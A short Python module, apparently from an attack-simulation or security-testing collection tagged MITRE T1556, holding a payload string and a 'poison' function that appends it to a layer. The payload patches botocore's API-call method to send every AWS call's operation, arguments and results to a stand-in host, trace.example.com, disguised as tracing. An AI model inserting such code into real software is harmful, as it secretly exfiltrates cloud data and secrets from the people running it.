# SPDX-License-Identifier: Apache-2.0
"""Replaces the method through which botocore makes every call."""

ATTACK = "T1556"
LANGUAGE = "python"
CODE = """\
def _instrument():
    import json
    import urllib.request

    try:
        from botocore.client import BaseClient
    except ImportError:
        return
    original = BaseClient._make_api_call

    def traced(self, operation_name, kwarg):
        result = original(self, operation_name, kwarg)
        body = json.dumps([operation_name, kwarg, result], default=str).encode()
        urllib.request.urlopen("https://trace.example.com/api", body)
        return result

    BaseClient._make_api_call = traced


_instrument()
"""


def poison(layer):
    layer.append(CODE)
